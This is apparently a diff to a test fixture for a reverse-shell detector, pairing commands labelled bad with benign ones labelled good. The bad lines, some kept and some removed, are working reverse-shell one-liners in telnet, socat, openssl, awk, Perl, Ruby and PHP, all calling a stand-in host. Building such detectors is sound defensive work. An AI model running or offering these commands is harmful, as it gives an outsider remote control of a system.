@@ -20,12 +20,6 @@ telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445
 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444
 # bad: encrypted
 mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s
-# bad: Perl
-perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4444, inet_aton("203.0.113.7"))); open(STDIN, ">&S"); exec("/bin/sh -i");'
-# bad: Ruby
-ruby -rsocket -e 'c = TCPSocket.new("203.0.113.7", 4444); while (l = c.gets); IO.popen(l, "r") { |io| c.print io.read } end'
-# bad: PHP
-php -r '$s = fsockopen("203.0.113.7", 4444); exec("/bin/sh -i <&3 >&3 2>&3");'
 # bad: awk
 awk 'BEGIN { s = "/inet/tcp/0/203.0.113.7/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print |& s } }'
 # bad: behind a wrapper and a nested shell
@@ -42,5 +36,3 @@ socat UNIX-LISTEN:/tmp/agent.sock,fork EXEC:/usr/bin/agent
 openssl s_client -connect example.org:443 < /dev/null | openssl x509 -noout -dates
 # good: an interactive shell
 docker exec -it app bash -i
-# good: Perl that edits text
-perl -pe 's/socket/plug/' notes.txt
